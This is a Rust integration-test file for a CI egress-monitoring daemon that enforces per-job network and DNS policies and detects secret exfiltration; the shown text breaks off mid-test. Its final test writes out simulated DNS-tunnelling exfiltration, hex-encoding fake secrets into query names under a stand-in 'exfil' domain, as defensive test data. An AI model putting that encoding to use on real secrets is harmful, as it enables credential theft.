//! `watcher daemon`: two CI jobs on one host (processes carrying different job variables),
//! each under its own pipeline policy, each with its own log; fail-closed job start; SIGHUP
//! with a broken policy; `watcher status`; metrics; SIGTERM leaves nothing attached.
//!
//! The jobs are recognised by test-only variable names (WDT_RUN_ID / WDT_REPO, configured
//! in the daemon's config) rather than GITHUB_RUN_ID: the CI running this suite may itself
//! set GITHUB_RUN_ID for every process, and other tests run at the same time.
use std::{
    io::{Read as _, Write as _},
    os::unix::process::{CommandExt as _, ExitStatusExt as _},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    time::Duration,
};

use serde_json::Value;
use watcher_tests::{DnsServer, Listener, TempDir, netprobe_bin, read_jsonl, root_or_skip, wait_until, watcher_bin};

struct Daemon {
    child: Option<Child>,
    stderr: PathBuf,
    socket: PathBuf,
}

impl Daemon {
    fn start(config: &Path, dir: &TempDir) -> Daemon {
        Daemon::start_with(config, dir, |_| {})
    }

    /// Started with `env` applied to the daemon's command (its own environment).
    fn start_with(config: &Path, dir: &TempDir, env: impl FnOnce(&mut Command)) -> Daemon {
        let stderr = dir.join("daemon.stderr");
        let mut cmd = Command::new(watcher_bin());
        env(&mut cmd);
        let child = cmd
            .args(["daemon", "--config"])
            .arg(config)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&stderr).unwrap())
            .spawn()
            .unwrap();
        let d = Daemon { child: Some(child), stderr, socket: dir.join("run/watcher.sock") };
        assert!(
            wait_until(Duration::from_secs(30), || d.log().contains("watcher daemon started")),
            "daemon did not start: {}",
            d.log()
        );
        d
    }

    fn pid(&self) -> u32 {
        self.child.as_ref().unwrap().id()
    }

    fn log(&self) -> String {
        std::fs::read_to_string(&self.stderr).unwrap_or_default()
    }

    fn status(&self) -> Value {
        let out =
            Command::new(watcher_bin()).args(["status", "--json", "--socket"]).arg(&self.socket).output().unwrap();
        assert!(out.status.success(), "status failed: {}", String::from_utf8_lossy(&out.stderr));
        serde_json::from_slice(&out.stdout).unwrap()
    }

    fn signal(&self, sig: i32) {
        // SAFETY: a signal to our own child.
        unsafe { libc::kill(self.pid() as i32, sig) };
    }

    /// SIGTERM and wait; returns the exit code.
    fn stop(&mut self) -> Option<i32> {
        self.signal(libc::SIGTERM);
        let mut child = self.child.take().unwrap();
        for _ in 0..200 {
            if let Some(st) = child.try_wait().unwrap() {
                return st.code();
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let _ = child.kill();
        panic!("daemon did not stop on SIGTERM: {}", self.log());
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        if let Some(mut c) = self.child.take() {
            // SAFETY: our own child.
            unsafe { libc::kill(c.id() as i32, libc::SIGCONT) };
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

/// BPF program ids the process holds (its prog and link file descriptors name them).
fn bpf_prog_ids(pid: u32) -> Vec<u64> {
    let mut ids = Vec::new();
    for e in std::fs::read_dir(format!("/proc/{pid}/fdinfo")).unwrap().flatten() {
        let text = std::fs::read_to_string(e.path()).unwrap_or_default();
        for l in text.lines() {
            if let Some(v) = l.strip_prefix("prog_id:") {
                ids.push(v.trim().parse().unwrap());
            }
        }
    }
    ids.sort();
    ids.dedup();
    ids
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

fn job(id: &str, repo: &str, script: &str) -> (Option<i32>, String) {
    let out = Command::new("sh")
        .args(["-c", script])
        .env("WDT_RUN_ID", id)
        .env("WDT_REPO", repo)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    (out.status.code(), String::from_utf8_lossy(&out.stderr).into_owned())
}

fn job_status<'a>(st: &'a Value, id: &str) -> Option<&'a Value> {
    st["jobs"].as_array().unwrap().iter().find(|j| j["id"] == format!("WDT_RUN_ID={id}"))
}

fn wait_ended(d: &Daemon, id: &str) -> Value {
    let mut last = Value::Null;
    let ok = wait_until(Duration::from_secs(20), || {
        last = d.status();
        job_status(&last, id).is_some_and(|j| j["state"] == "ended")
    });
    assert!(ok, "job {id} did not end: {last:#}\n{}", d.log());
    job_status(&last, id).unwrap().clone()
}

fn policy(pipeline: &str, mode: &str, ok_port: u16) -> String {
    format!(
        "version: 1\npipeline: {pipeline}\nmode: {mode}\negress:\n  loopback: false\n  allow:\n    - cidr: 127.0.0.1/32\n      ports: [{ok_port}]\n"
    )
}

fn alerts(events: &[Value]) -> Vec<(String, String)> {
    events
        .iter()
        .filter(|e| e["kind"] == "alert")
        .map(|e| (e["rule"].as_str().unwrap().to_string(), e["action"].as_str().unwrap().to_string()))
        .collect()
}

#[test]
fn two_jobs_each_under_its_own_policy_with_its_own_log() {
    if !root_or_skip() {
        return;
    }
    let dir = TempDir::new("watcher-daemon-test");
    let ok = Listener::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let bad = Listener::start("127.0.0.2:0".parse().unwrap()).unwrap();
    let (okp, badp) = (ok.addr().port(), bad.addr().port());
    std::fs::write(dir.join("secure.yaml"), policy("secure", "enforce", okp)).unwrap();
    std::fs::write(dir.join("open.yaml"), policy("open", "audit", okp)).unwrap();
    let metrics_port = free_port();
    let config = dir.join("daemon.yaml");
    std::fs::write(
        &config,
        format!(
            "version: 1\nsocket: run/watcher.sock\nlog_dir: logs\nmetrics: 127.0.0.1:{metrics_port}\njob_end_grace: 300ms\n\
             jobs:\n  id_env: [WDT_RUN_ID]\n  pipeline_env: [WDT_REPO]\n\
             pipelines:\n  - match: \"acme/secure\"\n    policy: secure.yaml\n  - match: \"acme/*\"\n    policy: open.yaml\n"
        ),
    )
    .unwrap();
    let mut d = Daemon::start(&config, &dir);
    let mode = std::fs::metadata(&d.socket)
        .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777)
        .unwrap();
    assert_eq!(mode, 0o600, "status socket must be root-only");

    let tag = std::process::id();
    let (ida, idb) = (format!("{tag}01"), format!("{tag}02"));
    let np = netprobe_bin().display().to_string();
    let script = |marker: &str| format!("{np} tcp 127.0.0.1:{okp} tcp 127.0.0.2:{badp} && echo {marker} >/dev/null");
    // Job A (enforce): the forbidden connect is denied in the kernel.
    let (code, err_a) = job(&ida, "acme/secure", &script("marker-a"));
    assert_eq!(code, Some(0), "{err_a}");
    assert!(err_a.contains(&format!("connect 127.0.0.2:{badp}: Operation not permitted (EPERM)")), "{err_a}");
    assert_eq!(bad.connections(), 0, "the enforce job reached a forbidden address: {err_a}");
    assert_eq!(ok.connections(), 1, "{err_a}");
    // Job B (audit): the same connect goes through and is only flagged.
    let (code, err_b) = job(&idb, "acme/open", &script("marker-b"));
    assert_eq!(code, Some(0), "{err_b}");
    assert!(!err_b.contains("EPERM"), "{err_b}");
    assert_eq!(bad.connections(), 1, "{err_b}");
    // A process of no job is neither enforced nor logged.
    let out = Command::new(&np).args(["tcp", &format!("127.0.0.2:{badp}")]).output().unwrap();
    assert!(!String::from_utf8_lossy(&out.stderr).contains("EPERM"));
    assert_eq!(bad.connections(), 2);

    let sa = wait_ended(&d, &ida);
    let sb = wait_ended(&d, &idb);
    assert_eq!((sa["mode"].as_str(), sa["alerts"].as_u64()), (Some("enforce"), Some(1)), "{sa:#}");
    assert_eq!((sb["mode"].as_str(), sb["alerts"].as_u64()), (Some("audit"), Some(1)), "{sb:#}");

    let la = read_jsonl(
        sa["log"].as_str().map(|p| if Path::new(p).is_absolute() { PathBuf::from(p) } else { dir.join(p) }).unwrap(),
    );
    let lb = read_jsonl(
        sb["log"].as_str().map(|p| if Path::new(p).is_absolute() { PathBuf::from(p) } else { dir.join(p) }).unwrap(),
    );
    assert!(Path::new(&dir.join(format!("logs/acme_secure_{ida}.jsonl"))).exists());
    for (events, id, marker, other, action) in
        [(&la, &ida, "marker-a", "marker-b", "deny"), (&lb, &idb, "marker-b", "marker-a", "flag")]
    {
        let text: Vec<String> = events.iter().map(|e| e.to_string()).collect();
        let start = &events[0];
        assert_eq!(start["kind"], "start");
        assert_eq!(start["mode"], "daemon");
        assert_eq!(start["job"]["id"], format!("WDT_RUN_ID={id}"));
        assert_eq!(events.last().unwrap()["kind"], "end", "{text:#?}");
        assert_eq!(events.last().unwrap()["exit_code"], 0);
        // Exactly its own processes: every pid in the log was started inside this job.
        let own: std::collections::BTreeSet<u64> = events
            .iter()
            .filter(|e| e["kind"] == "exec" || e["kind"] == "fork")
            .map(|e| e["pid"].as_u64().unwrap())
            .collect();
        for e in events.iter().filter(|e| e["pid"].is_u64() && e["kind"] != "start") {
            assert!(own.contains(&e["pid"].as_u64().unwrap()), "foreign pid in job {id}: {e}");
        }
        assert!(text.iter().any(|l| l.contains(marker)), "{text:#?}");
        assert!(!text.iter().any(|l| l.contains(other)), "the other job's events are in job {id}'s log: {text:#?}");
        let connects: Vec<&Value> = events.iter().filter(|e| e["kind"] == "connect").collect();
        assert_eq!(connects.len(), 2, "{text:#?}");
        let forbidden = connects.iter().find(|c| c["daddr"] == "127.0.0.2").unwrap();
        assert_eq!(forbidden["allowed"], action != "deny");
        assert_eq!(alerts(events), vec![("egress-denied".to_string(), action.to_string())]);
        // The log is the schema replay reads: replay gives the same verdict.
        let st = Command::new(watcher_bin())
            .arg("replay")
            .arg(sa["log"].as_str().map(|p| dir.join(p)).unwrap())
            .output()
            .unwrap();
        assert_eq!(st.status.code(), Some(77), "{}", String::from_utf8_lossy(&st.stdout));
    }

    // Fail closed: while the daemon cannot set a job up (here: it is stopped), the job's
    // first program is held before its first instruction and reaches nothing.
    let ida2 = format!("{tag}03");
    d.signal(libc::SIGSTOP);
    let mut held = Command::new(&np)
        .args(["tcp", &format!("127.0.0.1:{okp}")])
        .env("WDT_RUN_ID", &ida2)
        .env("WDT_REPO", "acme/open")
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let state = || {
        std::fs::read_to_string(format!("/proc/{}/stat", held.id()))
            .ok()
            .and_then(|s| s.rsplit(')').next().and_then(|r| r.trim().chars().next()))
    };
    assert!(
        wait_until(Duration::from_secs(5), || state() == Some('T')),
        "the job's program was not held: state {:?}",
        state()
    );
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(state(), Some('T'));
    assert_eq!(ok.connections(), 2, "a job ran before the daemon set it up");
    d.signal(libc::SIGCONT);
    let st = held.wait().unwrap();
    assert!(st.success());
    assert_eq!(ok.connections(), 3, "the held job did not run once set up");
    wait_ended(&d, &ida2);

    // SIGHUP with a broken policy: reported with its position, the old policy stays.
    std::fs::write(
        dir.join("secure.yaml"),
        policy("secure", "enforce", okp).replace("mode: enforce", "mode: enforcing"),
    )
    .unwrap();
    d.signal(libc::SIGHUP);
    let mut st = Value::Null;
    assert!(
        wait_until(Duration::from_secs(10), || {
            st = d.status();
            st["counters"]["reload_errors"] == 1
        }),
        "{st:#}"
    );
    let err = st["counters"]["last_reload_error"].as_str().unwrap().to_string();
    assert!(err.contains("secure.yaml:3:"), "{err}");
    assert!(d.log().contains("reload failed"), "{}", d.log());
    let idc = format!("{tag}04");
    let (code, err_c) = job(&idc, "acme/secure", &script("marker-c"));
    assert_eq!(code, Some(0));
    assert!(err_c.contains("Operation not permitted (EPERM)"), "the previous enforce policy was not kept: {err_c}");
    assert_eq!(bad.connections(), 2);
    let sc = wait_ended(&d, &idc);
    assert_eq!(sc["alerts"], 1);

    // watcher status (text) and the metrics endpoint show jobs, alerts and lost counters.
    let out = Command::new(watcher_bin()).args(["status", "--config"]).arg(&config).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        text.contains("4 started") && text.contains("lost events: 0") && text.contains(&format!("acme_secure_{ida}")),
        "{text}"
    );
    assert!(text.contains("reloads: 1 (1 failed)"), "{text}");
    let mut s = std::net::TcpStream::connect(("127.0.0.1", metrics_port)).unwrap();
    s.write_all(b"GET /metrics HTTP/1.0\r\n\r\n").unwrap();
    let mut m = String::new();
    s.read_to_string(&mut m).unwrap();
    assert!(m.starts_with("HTTP/1.0 200 OK"), "{m}");
    for line in [
        "watcher_jobs_started_total 4",
        "watcher_jobs_ended_total 4",
        "watcher_alerts_total 3",
        "watcher_reload_errors_total 1",
        "watcher_lost_events_total{source=\"exec\"} 0",
    ] {
        assert!(m.lines().any(|l| l == line), "metrics lack {line:?}:\n{m}");
    }

    // SIGTERM: clean exit, socket gone, none of the daemon's programs left in the kernel.
    let progs = bpf_prog_ids(d.pid());
    assert!(progs.len() >= 10, "{progs:?}");
    assert_eq!(d.stop(), Some(0), "{}", d.log());
    assert!(!d.socket.exists());
    assert!(
        wait_until(Duration::from_secs(5), || progs.iter().all(|id| {
            !Command::new("bpftool").args(["prog", "show", "id", &id.to_string()]).output().unwrap().status.success()
        })),
        "programs of the stopped daemon are still loaded: {progs:?}"
    );
}

#[test]
fn a_bad_configuration_is_one_error_with_its_position() {
    let dir = TempDir::new("watcher-daemon-config");
    let config = dir.join("daemon.yaml");
    std::fs::write(&config, "version: 1\nlog_dir: logs\npipelines:\n  - match: \"a/*\"\n    polcy: p.yaml\n").unwrap();
    let out = Command::new(watcher_bin()).args(["daemon", "--config"]).arg(&config).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{err}");
    assert!(err.contains(&format!("{}:5:5: pipelines[0]: unknown field `polcy`", config.display())), "{err}");
    // A policy the configuration names is checked too.
    std::fs::write(dir.join("p.yaml"), "version: 1\npipeline: x\nmode: sometimes\n").unwrap();
    std::fs::write(&config, "version: 1\npipelines:\n  - match: \"a/*\"\n    policy: p.yaml\n").unwrap();
    let out = Command::new(watcher_bin()).args(["daemon", "--config"]).arg(&config).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{err}");
    assert!(err.contains("p.yaml:3:"), "{err}");
}

/// A cgroup directory removed (after killing what is left in it) on drop.
struct CgroupDir(PathBuf);

impl Drop for CgroupDir {
    fn drop(&mut self) {
        for sub in [self.0.join("job-1"), self.0.clone()] {
            if let Ok(procs) = std::fs::read_to_string(sub.join("cgroup.procs")) {
                for pid in procs.lines().filter_map(|l| l.trim().parse::<i32>().ok()) {
                    // SAFETY: processes this test put in its own cgroup.
                    unsafe { libc::kill(pid, libc::SIGKILL) };
                }
            }
            let _ = wait_until(Duration::from_secs(5), || std::fs::remove_dir(&sub).is_ok() || !sub.exists());
        }
    }
}

fn cgroup2_root() -> PathBuf {
    let mounts = std::fs::read_to_string("/proc/self/mounts").unwrap();
    let p = mounts.lines().find_map(|l| {
        let f: Vec<&str> = l.split_whitespace().collect();
        (f.len() > 2 && f[2] == "cgroup2").then(|| PathBuf::from(f[1]))
    });
    p.expect("no cgroup2 mount")
}

#[test]
fn a_cgroup_matching_a_pattern_is_watched_as_a_job() {
    if !root_or_skip() {
        return;
    }
    let dir = TempDir::new("watcher-daemon-cgtest");
    let ok = Listener::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let bad = Listener::start("127.0.0.2:0".parse().unwrap()).unwrap();
    let (okp, badp) = (ok.addr().port(), bad.addr().port());
    std::fs::write(dir.join("secure.yaml"), policy("secure", "enforce", okp)).unwrap();
    let parent = format!("watcher-daemon-cgtest-{}", std::process::id());
    let root = cgroup2_root();
    std::fs::create_dir(root.join(&parent)).unwrap();
    let _guard = CgroupDir(root.join(&parent));
    let config = dir.join("daemon.yaml");
    // A job variable nobody sets: this test is about cgroups (and must not take the other
    // test's jobs).
    std::fs::write(
        &config,
        format!(
            "version: 1\nsocket: run/watcher.sock\nlog_dir: logs\njob_end_grace: 300ms\n\
             jobs:\n  id_env: [WDT_UNUSED_{pid}]\n\
             cgroups:\n  - match: \"{parent}/job-*\"\n    pipeline: acme/secure\n\
             pipelines:\n  - match: \"acme/secure\"\n    policy: secure.yaml\n",
            pid = std::process::id()
        ),
    )
    .unwrap();
    let mut d = Daemon::start(&config, &dir);
    let cg = root.join(&parent).join("job-1");
    std::fs::create_dir(&cg).unwrap();
    let id = format!("cgroup={parent}/job-1");
    let mut st = Value::Null;
    assert!(
        wait_until(Duration::from_secs(10), || {
            st = d.status();
            st["jobs"].as_array().unwrap().iter().any(|j| j["id"] == id.as_str())
        }),
        "the cgroup was not taken as a job: {st:#}\n{}",
        d.log()
    );
    // A process that moves itself into the cgroup, then runs the workload.
    let np = netprobe_bin().display().to_string();
    let out = Command::new("sh")
        .args([
            "-c",
            &format!("echo $$ > {}/cgroup.procs && exec {np} tcp 127.0.0.1:{okp} tcp 127.0.0.2:{badp}", cg.display()),
        ])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(err.contains(&format!("connect 127.0.0.2:{badp}: Operation not permitted (EPERM)")), "{err}");
    assert_eq!((ok.connections(), bad.connections()), (1, 0), "{err}");
    std::fs::remove_dir(&cg).unwrap();
    assert!(
        wait_until(Duration::from_secs(10), || {
            st = d.status();
            st["jobs"].as_array().unwrap().iter().any(|j| j["id"] == id.as_str() && j["state"] == "ended")
        }),
        "{st:#}"
    );
    let j = st["jobs"].as_array().unwrap().iter().find(|j| j["id"] == id.as_str()).unwrap().clone();
    let events = read_jsonl(dir.join(j["log"].as_str().unwrap()));
    assert_eq!(events[0]["job"]["pipeline"], "acme/secure");
    assert!(
        events.iter().any(|e| e["kind"] == "exec" && e["filename"].as_str().is_some_and(|f| f.ends_with("netprobe"))),
        "{events:#?}"
    );
    assert_eq!(alerts(&events), vec![("egress-denied".to_string(), "deny".to_string())]);
    assert_eq!(events.last().unwrap()["kind"], "end");
    assert_eq!(d.stop(), Some(0));
}

#[test]
fn a_full_ring_buffer_is_counted_and_a_job_whose_start_was_lost_still_runs() {
    if !root_or_skip() {
        return;
    }
    let dir = TempDir::new("watcher-daemon-losstest");
    let config = dir.join("daemon.yaml");
    std::fs::write(
        &config,
        "version: 1\nsocket: run/watcher.sock\nlog_dir: logs\njob_end_grace: 300ms\njobs:\n  id_env: [WDT_LOSS_RUN_ID]\n  pipeline_env: [WDT_REPO]\n",
    )
    .unwrap();
    // 4K holds one exec record: with the daemon not draining, a second job's start is lost.
    let stderr = dir.join("daemon.stderr");
    let child = Command::new(watcher_bin())
        .args(["daemon", "--ringbuf-size", "4K", "--config"])
        .arg(&config)
        .stdin(Stdio::null())
        .stderr(std::fs::File::create(&stderr).unwrap())
        .spawn()
        .unwrap();
    let mut d = Daemon { child: Some(child), stderr, socket: dir.join("run/watcher.sock") };
    assert!(wait_until(Duration::from_secs(30), || d.log().contains("watcher daemon started")), "{}", d.log());
    d.signal(libc::SIGSTOP);
    let spawn = |id: &str| {
        Command::new("sh")
            .args(["-c", "for i in 1 2 3 4 5 6 7 8; do /bin/true; done"])
            .env("WDT_LOSS_RUN_ID", id)
            .env("WDT_REPO", "acme/loss")
            .spawn()
            .unwrap()
    };
    let mut x = spawn("x");
    let mut y = spawn("y");
    // Both held at their first exec (the kernel stopped them, their records are in, or not
    // in, the ring) before the daemon drains: a fixed sleep let a slow second exec arrive
    // after the drain on a loaded machine, and then nothing was lost.
    let held = |pid: u32| proc_state(pid) == Some('T');
    assert!(
        wait_until(Duration::from_secs(20), || held(x.id()) && held(y.id())),
        "both jobs' first processes should be held while the daemon is stopped"
    );
    d.signal(libc::SIGCONT);
    assert!(x.wait().unwrap().success());
    assert!(y.wait().unwrap().success());
    let mut st = Value::Null;
    assert!(
        wait_until(Duration::from_secs(20), || {
            st = d.status();
            st["counters"]["jobs_ended"] == 2
        }),
        "{st:#}\n{}",
        d.log()
    );
    let lost_exec = st["counters"]["lost"]["exec"].as_u64().unwrap_or(0);
    assert!(lost_exec >= 1, "{st:#}");
    assert_eq!(st["counters"]["recovered_jobs"], 1, "{st:#}\n{}", d.log());
    // Every job's log reports the loss; none is silently complete.
    for j in st["jobs"].as_array().unwrap() {
        let events = read_jsonl(dir.join(j["log"].as_str().unwrap()));
        assert!(events.iter().any(|e| e["kind"] == "loss" && e["source"] == "exec"), "{events:#?}");
        assert!(events.last().unwrap()["lost"].as_u64().unwrap() >= 1);
    }
    let out = Command::new(watcher_bin()).args(["status", "--socket"]).arg(&d.socket).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains(&format!("exec={lost_exec}")), "{text}");
    assert_eq!(d.stop(), Some(0));
}

#[test]
fn processes_of_no_job_are_logged_apart_and_never_enforced_when_configured() {
    if !root_or_skip() {
        return;
    }
    let dir = TempDir::new("watcher-daemon-nojob");
    let ok = Listener::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let bad = Listener::start("127.0.0.2:0".parse().unwrap()).unwrap();
    let (okp, badp) = (ok.addr().port(), bad.addr().port());
    std::fs::write(dir.join("secure.yaml"), policy("secure", "enforce", okp)).unwrap();
    let config = dir.join("daemon.yaml");
    std::fs::write(
        &config,
        "version: 1\nsocket: run/watcher.sock\nlog_dir: logs\nno_job_log: nojob.jsonl\njob_end_grace: 300ms\n\
         jobs:\n  id_env: [WDT_NJ_RUN_ID]\n  pipeline_env: [WDT_REPO]\n\
         pipelines:\n  - match: \"acme/secure\"\n    policy: secure.yaml\n",
    )
    .unwrap();
    let mut d = Daemon::start(&config, &dir);
    let np = netprobe_bin().display().to_string();
    // A process of no job (marker-nojob) connects where the policy would deny: not denied;
    // then it starts a job (the variable set only for the child), which is enforced.
    let script = format!(
        "{np} tcp 127.0.0.2:{badp} && echo marker-nojob >/dev/null && \
         WDT_NJ_RUN_ID=nj1 WDT_REPO=acme/secure {np} tcp 127.0.0.2:{badp}"
    );
    let out = Command::new("sh").args(["-c", &script]).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert_eq!(err.matches("EPERM").count(), 1, "only the job's connect is denied: {err}");
    assert_eq!(bad.connections(), 1, "{err}");
    let mut st = Value::Null;
    assert!(
        wait_until(Duration::from_secs(20), || {
            st = d.status();
            st["jobs"].as_array().unwrap().iter().any(|j| j["id"] == "WDT_NJ_RUN_ID=nj1" && j["state"] == "ended")
        }),
        "{st:#}\n{}",
        d.log()
    );
    assert!(st["counters"]["no_job_events"].as_u64().unwrap() > 0, "{st:#}");
    let job = st["jobs"].as_array().unwrap().iter().find(|j| j["id"] == "WDT_NJ_RUN_ID=nj1").unwrap().clone();
    assert_eq!(d.stop(), Some(0));
    let nojob = read_jsonl(dir.join("nojob.jsonl"));
    let text: Vec<String> = nojob.iter().map(|e| e.to_string()).collect();
    assert_eq!(nojob[0]["kind"], "start");
    assert_eq!(nojob.last().unwrap()["kind"], "end");
    assert!(text.iter().any(|l| l.contains("marker-nojob")), "{text:#?}");
    // (Other tests' processes run meanwhile and are of no job too: look at this test's port.)
    let allowed: Vec<&Value> =
        nojob.iter().filter(|e| e["kind"] == "connect" && e["daddr"] == "127.0.0.2" && e["dport"] == badp).collect();
    assert_eq!(allowed.len(), 1, "{text:#?}");
    assert_eq!(allowed[0]["allowed"], true);
    assert!(!nojob.iter().any(|e| e["kind"] == "alert"), "no policy judges processes of no job");
    let job_events = read_jsonl(dir.join(job["log"].as_str().unwrap()));
    // The job's process is in the job's log from its exec on (its fork happened in no job).
    let job_pids: std::collections::BTreeSet<u64> =
        job_events.iter().filter(|e| e["kind"] == "exec").filter_map(|e| e["pid"].as_u64()).collect();
    assert_eq!(job_pids.len(), 1, "{job_events:#?}");
    for e in nojob.iter().filter(|e| e["kind"] == "exec" || e["kind"] == "connect") {
        assert!(!job_pids.contains(&e["pid"].as_u64().unwrap()), "the job's event is in the no-job log: {e}");
    }
    assert_eq!(alerts(&job_events), vec![("egress-denied".to_string(), "deny".to_string())]);
}

#[test]
fn dns_rules_and_learned_addresses_are_per_job() {
    if !root_or_skip() {
        return;
    }
    let dir = TempDir::new("watcher-daemon-dns");
    let dns_ip = "127.53.0.71";
    let dns =
        DnsServer::start(dns_ip.parse().unwrap(), vec![("ok.watcher.test".into(), vec!["127.0.0.3".parse().unwrap()])])
            .unwrap();
    let named = Listener::start("127.0.0.3:0".parse().unwrap()).unwrap();
    let port = named.addr().port();
    let pol = |pipeline: &str, mode: &str| {
        format!(
            "version: 1\npipeline: {pipeline}\nmode: {mode}\negress:\n  loopback: false\n  allow:\n    - host: ok.watcher.test\n      ports: [{port}]\ndns:\n  resolvers: [{dns_ip}]\n"
        )
    };
    std::fs::write(dir.join("secure.yaml"), pol("secure", "enforce")).unwrap();
    std::fs::write(dir.join("open.yaml"), pol("open", "audit")).unwrap();
    let config = dir.join("daemon.yaml");
    std::fs::write(
        &config,
        "version: 1\nsocket: run/watcher.sock\nlog_dir: logs\njob_end_grace: 300ms\n\
         jobs:\n  id_env: [WDT_DNS_RUN_ID]\n  pipeline_env: [WDT_REPO]\n\
         pipelines:\n  - match: \"acme/secure\"\n    policy: secure.yaml\n  - match: \"acme/open\"\n    policy: open.yaml\n",
    )
    .unwrap();
    let mut d = Daemon::start(&config, &dir);
    let np = netprobe_bin().display().to_string();
    let run = |id: &str, repo: &str, args: &str| {
        let out = Command::new("sh")
            .args(["-c", &format!("{np} {args}")])
            .env("WDT_DNS_RUN_ID", id)
            .env("WDT_REPO", repo)
            .output()
            .unwrap();
        assert!(out.status.success());
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    let lookups =
        format!("dns-sendto {dns_ip} ok.watcher.test A tcp 127.0.0.3:{port} dns-sendto {dns_ip} evil.watcher.test A");
    // Enforce job: the allowed name resolves, its answer's address is reachable; the other
    // name's query never leaves.
    let err = run("e", "acme/secure", &lookups);
    assert_eq!(named.connections(), 1, "{err}");
    let names: Vec<String> = dns.queries().iter().map(|q| q.name.clone()).collect();
    assert_eq!(names, vec!["ok.watcher.test"], "{err}");
    // Audit job: the same goes through, flagged.
    let err = run("f", "acme/open", &lookups);
    assert_eq!(named.connections(), 2, "{err}");
    assert_eq!(dns.queries().len(), 3, "{err}");
    // Another job of the enforce pipeline that did not resolve the name: the address the
    // first job learned is not allowed for it.
    let err = run("g", "acme/secure", &format!("tcp 127.0.0.3:{port}"));
    assert!(err.contains("Operation not permitted (EPERM)"), "{err}");
    assert_eq!(named.connections(), 2, "{err}");
    let mut st = Value::Null;
    assert!(
        wait_until(Duration::from_secs(20), || {
            st = d.status();
            st["counters"]["jobs_ended"] == 3
        }),
        "{st:#}"
    );
    let log_of = |id: &str| {
        let j = st["jobs"].as_array().unwrap().iter().find(|j| j["id"] == format!("WDT_DNS_RUN_ID={id}")).unwrap();
        read_jsonl(dir.join(j["log"].as_str().unwrap()))
    };
    assert_eq!(alerts(&log_of("e")), vec![("dns-denied".to_string(), "deny".to_string())]);
    assert_eq!(alerts(&log_of("f")), vec![("dns-denied".to_string(), "flag".to_string())]);
    assert_eq!(alerts(&log_of("g")), vec![("egress-denied".to_string(), "deny".to_string())]);
    assert_eq!(d.stop(), Some(0));
}

/// A per-test value that looks like a secret: `prefix` then random letters and digits (40
/// characters), so its redacted form (`Aa…(40 chars)`) tells the values apart.
fn fake_secret(prefix: &str) -> String {
    let mut b = [0u8; 64];
    std::fs::File::open("/dev/urandom").unwrap().read_exact(&mut b).unwrap();
    let abc = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let tail: String = b.iter().map(|x| abc[*x as usize % abc.len()] as char).take(40 - prefix.len()).collect();
    format!("{prefix}{tail}")
}

fn redacted(v: &str) -> String {
    format!("{}…({} chars)", &v[..2], v.chars().count())
}

/// A DNS name that carries `v` hex-encoded (two labels) under the attacker's domain.
fn exfil_name(v: &str) -> String {
    let hex: String = v.bytes().map(|b| format!("{b:02x}")).collect();
    format!("{}.{}.exfil.watcher.test", &hex[..40], &hex[40..])
}

/// The (variable, redacted value, action) of each secret-exfil alert.
fn secret_alerts(events: &[Value]) -> Vec<(String, String, String)> {
    let mut v: Vec<(String, String, String)> = events
        .iter()
        .filter(|e| e["kind"] == "alert" && e["rule"] == "secret-exfil")
        .map(|e| {
            (
                e["variable"].as_str().unwrap_or("").to_string(),
                e["redacted"].as_str().unwrap_or("").to_string(),
                e["action"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    v.sort();
    v.dedup();
    v
}

#[test]
fn secrets_are_looked_for_with_each_jobs_own_values_not_the_daemons() {
    if !root_or_skip() {
        return;
    }
    let dir = TempDir::new("watcher-daemon-secrets");
    let dns_ip = "127.53.0.73";
    let dns = DnsServer::start(dns_ip.parse().unwrap(), vec![]).unwrap();
    let pol = |pipeline: &str, mode: &str| {
        format!(
            "version: 1\npipeline: {pipeline}\nmode: {mode}\negress:\n  loopback: false\ndns:\n  resolvers: [{dns_ip}]\n"
        )
    };
    std::fs::write(dir.join("audit.yaml"), pol("audit", "audit")).unwrap();
    std::fs::write(dir.join("enforce.yaml"), pol("enforce", "enforce")).unwrap();
    let config = dir.join("daemon.yaml");
    std::fs::write(
        &config,
        "version: 1\nsocket: run/watcher.sock\nlog_dir: logs\njob_end_grace: 300ms\n\
         jobs:\n  id_env: [WDT_SEC_RUN_ID]\n  pipeline_env: [WDT_REPO]\n\
         pipelines:\n  - match: \"acme/audit\"\n    policy: audit.yaml\n  - match: \"acme/enforce\"\n    policy: enforce.yaml\n",
    )
    .unwrap();
    // Job a's and b's keys, a value job a exports later, and one only the daemon has (under
    // a name the policies protect: *_TOKEN).
    let (a, b, later, own) = (fake_secret("Aa"), fake_secret("Bb"), fake_secret("Cc"), fake_secret("Dd"));
    let mut d = Daemon::start_with(&config, &dir, |c| {
        c.env_remove("AWS_SECRET_ACCESS_KEY").env_remove("AWS_SESSION_TOKEN").env("WDT_DAEMON_DEPLOY_TOKEN", &own);
    });
    let np = netprobe_bin().display().to_string();
    let q = |v: &str| format!("dns-sendto {dns_ip} {} A", exfil_name(v));
